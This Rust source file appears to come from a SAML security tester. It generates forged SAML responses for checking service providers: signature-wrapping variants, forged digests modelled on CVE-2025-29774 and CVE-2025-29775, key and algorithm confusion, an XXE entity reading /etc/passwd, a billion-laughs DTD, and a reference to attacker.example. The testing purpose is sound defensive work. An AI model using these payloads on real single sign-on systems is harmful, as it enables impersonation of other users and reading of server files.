//! The generators of the catalogue. Each takes the fixture and returns the variant's XML.

use super::Fixture;
use super::edit::{
    EditError, Work, insert, replace_first, resign, sign, splice, standalone, strip_signatures,
};
use crate::build::response_xml;
use crate::sign::SignOptions;
use samlscope_core::algorithm::{DigestAlgorithm, SignatureAlgorithm};
use samlscope_core::xml::Span;
use samlscope_core::xml::ns::{DS, SAML};

const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
const EVIL_RESPONSE_ID: &str = "_evil_response_ID";

// ---- bases ------------------------------------------------------------------------------

pub(super) fn unsigned(fx: &Fixture) -> String {
    response_xml(&fx.spec)
}

pub(super) fn signed_both(fx: &Fixture) -> Result<String, EditError> {
    sign(
        &unsigned(fx),
        &[&fx.spec.assertion_id, &fx.spec.response_id],
        &fx.idp,
        &fx.options,
    )
}

pub(super) fn signed_assertion(fx: &Fixture) -> Result<String, EditError> {
    sign(
        &unsigned(fx),
        &[&fx.spec.assertion_id],
        &fx.idp,
        &fx.options,
    )
}

pub(super) fn signed_response(fx: &Fixture) -> Result<String, EditError> {
    sign(&unsigned(fx), &[&fx.spec.response_id], &fx.idp, &fx.options)
}

/// The attacker's edit: the victim's NameID becomes the attacker's choice.
pub(super) fn evil(fragment: &str, fx: &Fixture) -> Result<String, EditError> {
    replace_first(
        fragment,
        &format!(">{}<", fx.spec.name_id),
        &format!(">{}<", fx.evil_name_id),
    )
}

/// The DigestValue a Reference to the Assertion (or the Response) of `xml` carries: what an
/// attacker computes without any key (here by signing with the attacker's own).
pub(super) fn digest_of(xml: &str, of_assertion: bool, fx: &Fixture) -> Result<String, EditError> {
    let id = if of_assertion {
        &fx.spec.assertion_id
    } else {
        &fx.spec.response_id
    };
    let w = Work::new(sign(xml, &[id], &fx.attacker, &fx.options)?)?;
    let (_, signed_info) = w.signed_info(of_assertion)?;
    Ok(w.doc
        .text(w.first_named_in(signed_info, DS, "DigestValue")?))
}

/// The Assertion's digest once the NameID is the attacker's.
pub(super) fn evil_digest(fx: &Fixture) -> Result<String, EditError> {
    digest_of(&evil(&unsigned(fx), fx)?, true, fx)
}

/// The Assertion's first SignedInfo with its DigestValue replaced by `digest`.
pub(super) fn signed_info_with_digest(w: &Work, digest: &str) -> Result<String, EditError> {
    let sig = w.signature_of(w.assertion()?)?;
    let si = w.child(sig, DS, "SignedInfo")?;
    let dv = w.first_named(DS, "DigestValue")?;
    let (si_span, dv_span) = (w.doc.span(si), w.doc.span(dv));
    let mut copy = w.xml[si_span.start..dv_span.start].to_owned();
    copy.push_str(&format!("<ds:DigestValue>{digest}</ds:DigestValue>"));
    copy.push_str(&w.xml[dv_span.end..si_span.end]);
    Ok(copy)
}

pub(super) fn set_id(fragment: &str, old: &str, new: &str) -> Result<String, EditError> {
    replace_first(fragment, &format!("ID=\"{old}\""), &format!("ID=\"{new}\""))
}

// ---- 1.1 XSW ------------------------------------------------------------------------------

pub(super) fn xsw1(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_response(fx)?)?;
    let sig = w.signature_of(w.response())?;
    let clone = strip_signatures(w.node_text(w.response()))?;
    // The NameID lies after the Signature, so editing it first keeps the Signature's offsets.
    let evil_xml = evil(&w.xml, fx)?;
    let with_clone = insert(
        &evil_xml,
        w.doc.span(sig).end - "</ds:Signature>".len(),
        &clone,
    );
    set_id(&with_clone, &fx.spec.response_id, EVIL_RESPONSE_ID)
}

pub(super) fn xsw2(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_response(fx)?)?;
    let sig = w.signature_of(w.response())?;
    let clone = strip_signatures(w.node_text(w.response()))?;
    let evil_xml = evil(&w.xml, fx)?;
    let with_clone = insert(&evil_xml, w.doc.span(sig).start, &clone);
    set_id(&with_clone, &fx.spec.response_id, EVIL_RESPONSE_ID)
}

pub(super) fn evil_assertion_clone(w: &Work, fx: &Fixture) -> Result<String, EditError> {
    let clone = strip_signatures(w.node_text(w.assertion()?))?;
    set_id(&evil(&clone, fx)?, &fx.spec.assertion_id, EVIL_ASSERTION_ID)
}

pub(super) fn xsw3(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let clone = evil_assertion_clone(&w, fx)?;
    Ok(insert(&w.xml, w.doc.span(w.assertion()?).start, &clone))
}

pub(super) fn xsw4(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let original = w.node_text(a).to_owned();
    let clone = evil_assertion_clone(&w, fx)?;
    let end = clone.len() - "</saml2:Assertion>".len();
    let nested = insert(&clone, end, &original);
    Ok(splice(&w.xml, w.doc.span(a), &nested))
}

pub(super) fn xsw5(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let original_unsigned = strip_signatures(w.node_text(a))?;
    let evil_in_place = set_id(
        &evil(w.node_text(a), fx)?,
        &fx.spec.assertion_id,
        EVIL_ASSERTION_ID,
    )?;
    Ok(splice(
        &w.xml,
        w.doc.span(a),
        &format!("{evil_in_place}{original_unsigned}"),
    ))
}

pub(super) fn xsw6(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let sig = w.signature_of(a)?;
    let original_unsigned = strip_signatures(w.node_text(a))?;
    // The outer NameID lies after the Signature: edit it before inserting the clone.
    let evil_xml = evil(&w.xml, fx)?;
    let with_clone = insert(
        &evil_xml,
        w.doc.span(sig).end - "</ds:Signature>".len(),
        &original_unsigned,
    );
    set_id(&with_clone, &fx.spec.assertion_id, EVIL_ASSERTION_ID)
}

pub(super) fn xsw7(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let clone = evil(&strip_signatures(w.node_text(a))?, fx)?;
    Ok(insert(
        &w.xml,
        w.doc.span(a).start,
        &format!("<Extensions>{clone}</Extensions>"),
    ))
}

pub(super) fn xsw8(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let sig = w.signature_of(a)?;
    let original_unsigned = strip_signatures(w.node_text(a))?;
    let evil_xml = evil(&w.xml, fx)?;
    Ok(insert(
        &evil_xml,
        w.doc.span(sig).end - "</ds:Signature>".len(),
        &format!("<ds:Object>{original_unsigned}</ds:Object>"),
    ))
}

// ---- 1.2 ------------------------------------------------------------------------------------

pub(super) fn strip_all(fx: &Fixture) -> Result<String, EditError> {
    evil(&strip_signatures(&signed_both(fx)?)?, fx)
}

pub(super) fn signature_value_span(
    w: &Work,
    parent: samlscope_core::xml::NodeId,
) -> Result<Span, EditError> {
    let sig = w.signature_of(parent)?;
    Ok(w.doc.span(w.child(sig, DS, "SignatureValue")?))
}

pub(super) fn empty_value(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
    let span = signature_value_span(&w, w.assertion()?)?;
    Ok(splice(
        &w.xml,
        span,
        "<ds:SignatureValue></ds:SignatureValue>",
    ))
}

pub(super) fn corrupt_digest(fx: &Fixture) -> Result<String, EditError> {
    // The NameID is the attacker's and the DigestValue matches it: only the SignatureValue,
    // still over the original SignedInfo, gives the forgery away.
    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
    let dv = w.first_named(DS, "DigestValue")?;
    Ok(splice(
        &w.xml,
        w.doc.span(dv),
        &format!("<ds:DigestValue>{}</ds:DigestValue>", evil_digest(fx)?),
    ))
}

pub(super) fn tamper_nameid(fx: &Fixture) -> Result<String, EditError> {
    evil(&signed_assertion(fx)?, fx)
}

pub(super) fn wrong_position(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let sig = w.signature_of(a)?;
    let sig_text = w.node_text(sig).to_owned();
    let end = w.doc.span(a).end - "</saml2:Assertion>".len();
    let moved = insert(&w.xml, end, &sig_text);
    Ok(splice(&moved, w.doc.span(sig), ""))
}

pub(super) fn sig_in_extensions(fx: &Fixture) -> Result<String, EditError> {
    // Donor: the assertion's valid signature, copied into Extensions of an unsigned response.
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let donor = standalone(&w, w.signature_of(a)?);
    let unsigned = evil(&strip_signatures(&w.xml)?, fx)?;
    let u = Work::new(unsigned)?;
    let status = u.status()?;
    Ok(insert(
        &u.xml,
        u.doc.span(status).start,
        &format!("<saml2p:Extensions>{donor}</saml2p:Extensions>"),
    ))
}

pub(super) fn resign_assertion(
    fx: &Fixture,
    edit: impl Fn(&str) -> Result<String, EditError>,
) -> Result<String, EditError> {
    resign(&signed_assertion(fx)?, true, &fx.idp, &fx.options, edit)
}

pub(super) fn ref_empty(fx: &Fixture) -> Result<String, EditError> {
    let uri = format!("URI=\"#{}\"", fx.spec.assertion_id);
    resign_assertion(fx, |si| replace_first(si, &uri, "URI=\"\""))
}

pub(super) fn ref_xpointer(fx: &Fixture) -> Result<String, EditError> {
    let uri = format!("URI=\"#{}\"", fx.spec.assertion_id);
    let to = format!("URI=\"#xpointer(id('{}'))\"", fx.spec.assertion_id);
    resign_assertion(fx, |si| replace_first(si, &uri, &to))
}

pub(super) fn ref_external(fx: &Fixture) -> Result<String, EditError> {
    let uri = format!("URI=\"#{}\"", fx.spec.assertion_id);
    resign_assertion(fx, |si| {
        replace_first(si, &uri, "URI=\"https://attacker.example/assertion.xml\"")
    })
}

pub(super) fn reference_span(si: &str) -> Result<(usize, usize), EditError> {
    let start = si
        .find("<ds:Reference")
        .ok_or(EditError::Missing("Reference"))?;
    let end = si
        .find("</ds:Reference>")
        .ok_or(EditError::Missing("Reference"))?
        + "</ds:Reference>".len();
    Ok((start, end))
}

pub(super) fn multi_reference(fx: &Fixture) -> Result<String, EditError> {
    resign_assertion(fx, |si| {
        let (s, e) = reference_span(si)?;
        Ok(insert(si, e, &si[s..e].replace("URI=\"#", "URI=\"#evil-")))
    })
}

/// CVE-2025-29774's form: the original SignedInfo stays first (its SignatureValue verifies) and
/// a second one carries the digest of the tampered Assertion, for a verifier that checks the
/// signature over one SignedInfo and the References of another.
pub(super) fn multi_signedinfo(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
    let si = w.child(w.signature_of(w.assertion()?)?, DS, "SignedInfo")?;
    let forged = signed_info_with_digest(&w, &evil_digest(fx)?)?;
    Ok(insert(&w.xml, w.doc.span(si).end, &forged))
}

/// The same forged SignedInfo, inside a foreign wrapper before the real one, for a verifier
/// that searches the Signature's descendants for References.
pub(super) fn wrapped_signedinfo(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(evil(&signed_assertion(fx)?, fx)?)?;
    let si = w.child(w.signature_of(w.assertion()?)?, DS, "SignedInfo")?;
    let forged = signed_info_with_digest(&w, &evil_digest(fx)?)?;
    Ok(insert(
        &w.xml,
        w.doc.span(si).start,
        &format!("<WRAPPER>{forged}</WRAPPER>"),
    ))
}

/// CVE-2025-29775's form, on a response signed as JumpCloud's Sign = both: the NameID is the
/// attacker's, and a comment at the start of each DigestValue holds the digest of the tampered
/// element (Assertion, then Response). Canonicalization drops comments, so both SignatureValues
/// still verify; a verifier that reads DigestValue's first child (xml-crypto before 6.0.1)
/// compares against the comments and accepts.
pub(super) fn digest_comment(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(evil(&signed_both(fx)?, fx)?)?;
    let xml = comment_first_in_digest(&w, w.assertion()?, &evil_digest(fx)?)?;
    // The Response's digest covers the tampered Assertion (its comment is not canonical
    // content): computed over this document without the Response's own Signature.
    let w = Work::new(xml)?;
    let response_signature = w.doc.span(w.signature_of(w.response())?);
    let unsigned_response = splice(&w.xml, response_signature, "");
    let digest = digest_of(&unsigned_response, false, fx)?;
    comment_first_in_digest(&w, w.response(), &digest)
}

/// `<!--digest-->` as the first child of the DigestValue of `parent`'s Signature.
fn comment_first_in_digest(
    w: &Work,
    parent: samlscope_core::xml::NodeId,
    digest: &str,
) -> Result<String, EditError> {
    let signature = w.signature_of(parent)?;
    let dv = w.first_named_in(signature, DS, "DigestValue")?;
    let at = w.doc.element(dv).map_or(0, |e| e.start_tag.end);
    Ok(insert(&w.xml, at, &format!("<!--{digest}-->")))
}

pub(super) fn missing_id(fx: &Fixture) -> Result<String, EditError> {
    let xml = evil(&signed_assertion(fx)?, fx)?;
    replace_first(&xml, &format!(" ID=\"{}\"", fx.spec.assertion_id), "")
}

// ---- 1.3 Keys --------------------------------------------------------------------------------

pub(super) fn keyinfo_cert_trust(fx: &Fixture) -> Result<String, EditError> {
    let tampered = evil(&unsigned(fx), fx)?;
    sign(
        &tampered,
        &[&fx.spec.assertion_id],
        &fx.attacker,
        &fx.options,
    )
}

pub(super) fn self_signed_swap(fx: &Fixture) -> Result<String, EditError> {
    // The attacker's certificate in the fixture clones the IdP's subject and serial; what
    // differs is only the key — and that is what a correct SP compares.
    keyinfo_cert_trust(fx).and_then(|x| {
        if fx.attacker.certificate.is_none() {
            Err(EditError::Missing("attacker certificate"))
        } else {
            Ok(x)
        }
    })
}

// ---- 1.4 Algorithms --------------------------------------------------------------------------

pub(super) fn hmac_key_confusion(fx: &Fixture) -> Result<String, EditError> {
    // The SignatureValue stays the RSA one: the point is the refused method, not the math.
    let xml = signed_assertion(fx)?;
    replace_first(
        &xml,
        SignatureAlgorithm::RSA_SHA256_URI,
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    )
}

pub(super) fn alg_sha1(fx: &Fixture) -> Result<String, EditError> {
    let options = SignOptions {
        signature: SignatureAlgorithm::RsaSha1,
        digest: DigestAlgorithm::Sha1,
        ..fx.options
    };
    sign(&unsigned(fx), &[&fx.spec.assertion_id], &fx.idp, &options)
}

pub(super) fn alg_md5(fx: &Fixture) -> Result<String, EditError> {
    resign_assertion(fx, |si| {
        replace_first(
            si,
            DigestAlgorithm::SHA256_URI,
            "http://www.w3.org/2001/04/xmldsig-more#md5",
        )
    })
}

// ---- 1.5 Transforms --------------------------------------------------------------------------

const ENV_TRANSFORM: &str =
    "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";

pub(super) fn add_transform(fx: &Fixture, transform: &'static str) -> Result<String, EditError> {
    resign_assertion(fx, move |si| {
        replace_first(
            si,
            "</ds:Transforms>",
            &format!("{transform}</ds:Transforms>"),
        )
    })
}

pub(super) fn xf_xslt(fx: &Fixture) -> Result<String, EditError> {
    add_transform(
        fx,
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/></ds:Transform>",
    )
}

/// An XPath filter that leaves the Subject out of the signed content, signed as such: the
/// digest is that of the Assertion without its Subject, so a verifier that runs the filter
/// accepts any NameID — here the attacker's.
pub(super) fn xf_xpath(fx: &Fixture) -> Result<String, EditError> {
    const XPATH: &str = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>";
    let w = Work::new(unsigned(fx))?;
    let subject = w.child(w.assertion()?, SAML, "Subject")?;
    let without_subject = splice(&w.xml, w.doc.span(subject), "");
    let digest = digest_of(&without_subject, true, fx)?;
    let filtered = resign_assertion(fx, |si| {
        let with_xpath = replace_first(si, "<ds:Transforms>", &format!("<ds:Transforms>{XPATH}"))?;
        let start = with_xpath
            .find("<ds:DigestValue>")
            .ok_or(EditError::Missing("DigestValue"))?
            + "<ds:DigestValue>".len();
        let end = with_xpath
            .find("</ds:DigestValue>")
            .ok_or(EditError::Missing("DigestValue"))?;
        Ok(format!(
            "{}{digest}{}",
            &with_xpath[..start],
            &with_xpath[end..]
        ))
    })?;
    evil(&filtered, fx)
}

pub(super) fn xf_too_many(fx: &Fixture) -> Result<String, EditError> {
    add_transform(
        fx,
        "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
    )
}

pub(super) fn xf_missing_enveloped(fx: &Fixture) -> Result<String, EditError> {
    resign_assertion(fx, |si| replace_first(si, ENV_TRANSFORM, ""))
}

// ---- 1.6 Parsing -----------------------------------------------------------------------------

pub(super) fn xxe(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_assertion(fx)?;
    let with_ref = replace_first(&xml, &format!(">{}<", fx.spec.name_id), ">&xxe;<")?;
    Ok(format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n{with_ref}"
    ))
}

pub(super) fn billion_laughs(fx: &Fixture) -> Result<String, EditError> {
    let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        let prev = format!("&lol{};", i - 1).repeat(10);
        dtd.push_str(&format!("<!ENTITY lol{i} \"{prev}\">"));
    }
    let xml = signed_assertion(fx)?;
    let with_ref = replace_first(&xml, &format!(">{}<", fx.spec.name_id), ">&lol9;<")?;
    Ok(format!("<!DOCTYPE r [{dtd}]>\n{with_ref}"))
}

pub(super) fn dtd_attlist(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_assertion(fx)?;
    Ok(format!(
        "<!DOCTYPE saml2p:Response [<!ATTLIST ds:Signature xmlns:ds CDATA #FIXED \"{DS}\">]>\n{xml}"
    ))
}

/// What the IdP signs in `comment-nameid`: an attacker-registered name that starts with the
/// identity the attacker wants.
pub(super) fn comment_signed_name(fx: &Fixture) -> String {
    format!("{}.evil.example", fx.evil_name_id)
}

pub(super) fn comment_nameid(fx: &Fixture) -> Result<String, EditError> {
    // The IdP signs the attacker's own account, whose name starts with the victim's; the
    // attacker inserts an empty comment so that a first-text-node reader sees only the victim's.
    let mut spec = fx.spec.clone();
    spec.name_id = comment_signed_name(fx);
    let xml = sign(
        &response_xml(&spec),
        &[&spec.assertion_id],
        &fx.idp,
        &fx.options,
    )?;
    replace_first(
        &xml,
        &format!(">{}<", spec.name_id),
        &format!(">{}<!---->.evil.example<", fx.evil_name_id),
    )
}

pub(super) fn cdata_nameid(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_assertion(fx)?;
    replace_first(
        &xml,
        &format!(">{}<", fx.spec.name_id),
        &format!("><![CDATA[{}]]><", fx.evil_name_id),
    )
}

pub(super) fn multi_root(fx: &Fixture) -> Result<String, EditError> {
    Ok(format!(
        "{}<saml2p:Response xmlns:saml2p=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>",
        signed_assertion(fx)?
    ))
}

pub(super) fn pi_injection(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_assertion(fx)?;
    let at = xml
        .find(&format!(">{}<", fx.spec.name_id))
        .ok_or(EditError::Missing("NameID"))?
        + 1;
    Ok(insert(&xml, at, "<?evil x?>"))
}

// ---- 1.7 IDs ---------------------------------------------------------------------------------

pub(super) fn dup_id(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let status = w.status()?;
    let at = w.doc.element(status).map_or(0, |e| e.start_tag.end);
    Ok(insert(
        &w.xml,
        at,
        &format!(
            "<saml2p:StatusMessage ID=\"{}\">x</saml2p:StatusMessage>",
            fx.spec.assertion_id
        ),
    ))
}

pub(super) fn attr_pollution(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_both(fx)?;
    replace_first(
        &xml,
        &format!("ID=\"{}\"", fx.spec.response_id),
        &format!("ID=\"{}\" saml2p:ID=\"attack\"", fx.spec.response_id),
    )
}

// ---- 1.8 Namespaces --------------------------------------------------------------------------

pub(super) fn ns_xml_xmlns(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_assertion(fx)?;
    replace_first(
        &xml,
        "<ds:Signature ",
        &format!("<ds:Signature xml:xmlns=\"{DS}\" "),
    )
}

pub(super) fn ns_redefine_prefix(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_both(fx)?;
    replace_first(
        &xml,
        &format!("<ds:Signature xmlns:ds=\"{DS}\""),
        "<ds:Signature xmlns:ds=\"urn:not-xmldsig\"",
    )
}

pub(super) fn void_c14n(fx: &Fixture) -> Result<String, EditError> {
    let xml = signed_assertion(fx)?;
    replace_first(&xml, "<saml2:Subject>", "<saml2:Subject xmlns:ns=\"1\">")
}

// ---- 1.9 Multiplicity ------------------------------------------------------------------------

pub(super) fn multi_assertion(fx: &Fixture) -> Result<String, EditError> {
    let w = Work::new(signed_assertion(fx)?)?;
    let a = w.assertion()?;
    let clone = set_id(
        &evil(&strip_signatures(w.node_text(a))?, fx)?,
        &fx.spec.assertion_id,
        &format!("{}_attack", fx.spec.assertion_id),
    )?;
    Ok(insert(&w.xml, w.doc.span(a).end, &clone))
}
